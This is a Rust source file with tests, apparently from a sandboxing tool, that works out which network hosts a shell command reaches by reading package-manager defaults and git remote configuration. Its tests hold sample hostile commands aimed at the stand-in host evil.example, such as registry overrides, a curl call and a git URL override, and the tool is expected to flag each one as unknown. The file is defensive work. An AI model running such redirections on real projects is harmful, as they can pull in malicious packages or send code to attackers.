//! The hosts a line reaches, as the reader can name them before it runs: what a box given the
//! network by name ([`hosts`]) lets through, proposed to the person with the command.
//!
//! A command reaches the hosts its table entry names (`npm install`: the npm registry; `git
//! push`: its remote's host, read from the repository's configuration) only when nothing in its
//! words names another (`--registry=URL`, an unknown option) and no wrapper adds the network.
//! Any command that reaches the network where the reader cannot name the hosts makes the whole
//! line's answer unknown. Whatever the answer, the box's proxy lets through only the hosts the
//! decision names, so a configuration that sends git elsewhere (`insteadOf`, an include) fails
//! to connect rather than reaching what was not shown.

use crate::effects::Effects;
use crate::table::GIT_REMOTE;
use crate::{Command, Line};
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

/// The hosts `line` reaches when run in `cwd`, sorted (`host`, or `host:port` for a port other
/// than the scheme's): empty when it reaches none; `None` when a command reaches the network
/// (or may: an unknown program or option) and the reader cannot name every host, or the line
/// is more than plain commands.
pub fn hosts(line: &Line, cwd: Option<&str>) -> Option<Vec<String>> {
    // A package a runner runs (`npx prettier`) is the runner's to fetch: what the package does
    // once running is held by the box, which reaches only what the runner does.
    let reaching: Vec<&Command> =
        line.commands.iter().filter(|c| !c.inner && c.effects.any(Effects::NETWORK | Effects::UNKNOWN)).collect();
    if reaching.is_empty() {
        return Some(Vec::new());
    }
    if !line.is_simple() {
        return None;
    }
    let mut out = BTreeSet::new();
    for c in reaching {
        out.extend(command_hosts(c, cwd)?);
    }
    Some(out.into_iter().collect())
}

/// The hosts one command reaches when run in `cwd`, as its table entry names them (see
/// [`hosts`]): empty when it reaches no network; `None` when it reaches the network, or may,
/// and the reader cannot name every host.
pub fn command_hosts(c: &Command, cwd: Option<&str>) -> Option<Vec<String>> {
    if !c.effects.any(Effects::NETWORK | Effects::UNKNOWN) {
        return Some(Vec::new());
    }
    if c.effects.any(Effects::UNKNOWN) || c.reaches.is_empty() {
        return None;
    }
    c.reaches.iter().map(|h| if h == GIT_REMOTE { git_remote(c, Path::new(cwd?)) } else { Some(h.clone()) }).collect()
}

/// The host of the remote a git command reaches (`git push`, `git fetch NAME`, `git pull URL`):
/// the URL it names, else the remote it names, else the current branch's remote, else
/// `origin`, looked up in the repository's configuration. None for every remote (`--all`), one
/// not configured, or one not reached over HTTP(S) or git's protocol (ssh: the box's proxy
/// does not carry it).
fn git_remote(c: &Command, cwd: &Path) -> Option<String> {
    let rest: Vec<&str> = c.words.iter().skip(c.named).map(|w| w.as_deref()).collect::<Option<_>>()?;
    if rest.iter().any(|w| matches!(*w, "--all" | "--multiple" | "--mirror" | "--repo") || w.starts_with("--repo=")) {
        return None;
    }
    let named = rest.iter().find(|w| !w.starts_with('-')).copied();
    if let Some(n) = named
        && (n.contains("://") || n.contains(':'))
    {
        return url_host(n);
    }
    let config = GitConfig::of(cwd)?;
    let remote = match named {
        Some(n) => n.to_string(),
        None => config.current_branch_remote().unwrap_or_else(|| "origin".to_string()),
    };
    let push = c.words.get(1).and_then(|w| w.as_deref()) == Some("push");
    let url = push.then(|| config.get(&format!("remote.{remote}"), "pushurl")).flatten();
    url_host(&url.or_else(|| config.get(&format!("remote.{remote}"), "url"))?)
}

/// The host of a git URL as the box's proxy names it: `host` on the scheme's own port, else
/// `host:port`; None for ssh, a local path, or what is not a URL.
pub fn url_host(url: &str) -> Option<String> {
    let u = url::Url::parse(url).ok()?;
    let default = match u.scheme() {
        "https" => 443,
        "http" => 80,
        "git" => 9418,
        _ => return None,
    };
    let host = crate::host::of_url(&u)?;
    Some(match u.port() {
        Some(p) if p != default => format!("{host}:{p}"),
        _ => host,
    })
}

/// The values of a repository's configuration file that say where its remotes are: `section`
/// (`remote.origin`, `branch.main`) and key, lower-case but for the subsection's name.
struct GitConfig {
    values: Vec<(String, String, String)>,
    head: Option<String>,
}

/// The most of a configuration file read.
const MAX_CONFIG: u64 = 1 << 20;

impl GitConfig {
    /// The configuration of the repository `cwd` is in (its `.git` folder, a `.git` file's
    /// `gitdir:`, a worktree's common folder); None outside one.
    fn of(cwd: &Path) -> Option<GitConfig> {
        let git_dir = git_dir(cwd)?;
        let common = std::fs::read_to_string(git_dir.join("commondir"))
            .ok()
            .map(|c| git_dir.join(c.trim()))
            .unwrap_or_else(|| git_dir.clone());
        let text = read_small(&common.join("config"))?;
        let head = read_small(&git_dir.join("HEAD"))
            .and_then(|h| h.trim().strip_prefix("ref: refs/heads/").map(str::to_string));
        Some(GitConfig { values: parse(&text), head })
    }

    /// The last value of `key` in `section` (as git takes the last).
    fn get(&self, section: &str, key: &str) -> Option<String> {
        self.values.iter().rev().find(|(s, k, _)| s == section && k == key).map(|(_, _, v)| v.clone())
    }

    /// The remote the current branch tracks.
    fn current_branch_remote(&self) -> Option<String> {
        self.get(&format!("branch.{}", self.head.as_deref()?), "remote")
    }
}

fn read_small(p: &Path) -> Option<String> {
    use std::io::Read;
    let mut s = String::new();
    std::fs::File::open(p).ok()?.take(MAX_CONFIG).read_to_string(&mut s).ok()?;
    Some(s)
}

/// The git folder of the repository `cwd` is in, looking up through its parents.
fn git_dir(cwd: &Path) -> Option<PathBuf> {
    for dir in cwd.ancestors() {
        let dot = dir.join(".git");
        let Ok(meta) = std::fs::metadata(&dot) else { continue };
        if meta.is_dir() {
            return Some(dot);
        }
        let text = read_small(&dot)?;
        let to = text.lines().next()?.strip_prefix("gitdir:")?.trim();
        return Some(dir.join(to));
    }
    None
}

/// The `remote.*` and `branch.*` values of a configuration file's text: `[remote "origin"]`
/// then `url = …` (comments, quotes and escapes as git reads them, enough for these values).
fn parse(text: &str) -> Vec<(String, String, String)> {
    let mut out = Vec::new();
    let mut section = String::new();
    for raw in text.lines() {
        let line = raw.trim();
        if let Some(h) = line.strip_prefix('[') {
            let Some(h) = h.split(']').next() else { continue };
            section = match h.split_once(char::is_whitespace) {
                Some((name, sub)) => {
                    format!("{}.{}", name.to_ascii_lowercase(), sub.trim().trim_matches('"').replace("\\\"", "\""))
                }
                None => h.to_ascii_lowercase(),
            };
            continue;
        }
        let Some((k, v)) = line.split_once('=') else { continue };
        out.push((section.clone(), k.trim().to_ascii_lowercase(), value(v)));
    }
    out
}

/// A value as git reads it: comments after `#` or `;` outside quotes dropped, quotes removed.
fn value(v: &str) -> String {
    let mut out = String::new();
    let mut quoted = false;
    let mut chars = v.trim().chars();
    while let Some(ch) = chars.next() {
        match ch {
            '"' => quoted = !quoted,
            '\\' => out.extend(chars.next()),
            '#' | ';' if !quoted => break,
            _ => out.push(ch),
        }
    }
    out.trim_end().to_string()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::{Context, analyze};

    fn reach(line: &str, cwd: &Path) -> Option<Vec<String>> {
        let ctx = Context { cwd: Some(cwd.to_string_lossy().into()), home: Some("/home/user".into()) };
        hosts(&analyze(line, &ctx), Some(&cwd.to_string_lossy()))
    }

    fn repo(config: &str) -> tempfile::TempDir {
        let d = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(d.path().join(".git")).unwrap();
        std::fs::write(d.path().join(".git/config"), config).unwrap();
        std::fs::write(d.path().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        d
    }

    #[test]
    fn package_managers_reach_their_registries_and_nothing_else_named() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path();
        let v = |hs: &[&str]| Some(hs.iter().map(|h| h.to_string()).collect::<Vec<_>>());
        assert_eq!(reach("npm install", p), v(&["registry.npmjs.org"]));
        assert_eq!(reach("npm ci --no-audit", p), v(&["registry.npmjs.org"]));
        assert_eq!(reach("npx prettier --check .", p), v(&["registry.npmjs.org"]));
        assert_eq!(reach("pip install -r requirements.txt", p), v(&["files.pythonhosted.org", "pypi.org"]));
        assert_eq!(reach("cargo fetch", p), v(&["index.crates.io", "static.crates.io"]));
        assert_eq!(
            reach("npm install && cargo fetch", p),
            v(&["index.crates.io", "registry.npmjs.org", "static.crates.io"])
        );
        // Nothing reached: none.
        assert_eq!(reach("npm test", p), v(&[]));
        assert_eq!(reach("ls -la", p), v(&[]));
        // A host the words name, an unknown option, a program that reaches anything: not known.
        assert_eq!(reach("npm install --registry=https://evil.example", p), None);
        assert_eq!(reach("npm install --registry https://evil.example", p), None);
        assert_eq!(reach("pip install -i https://evil.example/simple x", p), None);
        assert_eq!(reach("npm install --frobnicate", p), None);
        assert_eq!(reach("npm install && curl https://evil.example", p), None);
        assert_eq!(reach("curl https://registry.npmjs.org", p), None);
        assert_eq!(reach("npm install $(echo x)", p), None);
        assert_eq!(reach("npm_config_registry=https://evil.example npm install", p), None);
        assert_eq!(reach("env npm_config_registry=https://evil.example npm install", p), None);
        assert_eq!(reach("mystery-tool", p), None);
    }

    #[test]
    fn git_reaches_the_remote_its_configuration_names() {
        let d = repo(
            "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://github.com/acme/app.git ; the main one\n\
             [remote \"fork\"]\n\turl = \"https://git.example.org:8443/me/app.git\"\n\tpushurl = https://push.example.org/me/app\n\
             [remote \"mine\"]\n\turl = git@github.com:me/app.git\n[branch \"main\"]\n\tremote = fork\n",
        );
        let p = d.path();
        let one = |h: &str| Some(vec![h.to_string()]);
        assert_eq!(reach("git fetch origin", p), one("github.com"));
        assert_eq!(reach("git push origin main", p), one("github.com"));
        // The branch's remote, its push URL for a push.
        assert_eq!(reach("git fetch", p), one("git.example.org:8443"));
        assert_eq!(reach("git push", p), one("push.example.org"));
        assert_eq!(reach("git pull https://other.example/x.git main", p), one("other.example"));
        // From a folder below the repository's top.
        std::fs::create_dir_all(p.join("src/deep")).unwrap();
        assert_eq!(reach("git fetch origin", &p.join("src/deep")), one("github.com"));
        // ssh, a remote not configured, every remote, a forced or unknown form: not known here.
        assert_eq!(reach("git push mine", p), None);
        assert_eq!(reach("git push nowhere", p), None);
        assert_eq!(reach("git fetch --all", p), None);
        assert_eq!(reach("git push --repo=https://evil.example/x origin", p), None);
        assert_eq!(reach("git -c remote.origin.url=https://evil.example fetch", p), None);
        // Outside a repository.
        let bare = tempfile::tempdir().unwrap();
        assert_eq!(reach("git fetch", bare.path()), None);
    }

    #[test]
    fn a_worktree_file_leads_to_the_common_configuration() {
        let main = repo("[remote \"origin\"]\n\turl = https://example.com/r.git\n");
        let wt_git = main.path().join(".git/worktrees/wt");
        std::fs::create_dir_all(&wt_git).unwrap();
        std::fs::write(wt_git.join("commondir"), "../..\n").unwrap();
        std::fs::write(wt_git.join("HEAD"), "ref: refs/heads/feature\n").unwrap();
        let wt = tempfile::tempdir().unwrap();
        std::fs::write(wt.path().join(".git"), format!("gitdir: {}\n", wt_git.display())).unwrap();
        assert_eq!(reach("git fetch", wt.path()), Some(vec!["example.com".to_string()]));
    }

    #[test]
    fn urls_name_hosts_as_the_proxy_does() {
        assert_eq!(url_host("https://GitHub.com/a/b"), Some("github.com".into()));
        assert_eq!(url_host("http://h.example:80/x"), Some("h.example".into()));
        assert_eq!(url_host("https://h.example:444/x"), Some("h.example:444".into()));
        assert_eq!(url_host("git://h.example/x"), Some("h.example".into()));
        assert_eq!(url_host("ssh://git@h.example/x"), None);
        assert_eq!(url_host("git@h.example:x/y"), None);
        assert_eq!(url_host("/srv/git/x"), None);
        assert_eq!(url_host("file:///srv/git/x"), None);
    }
}
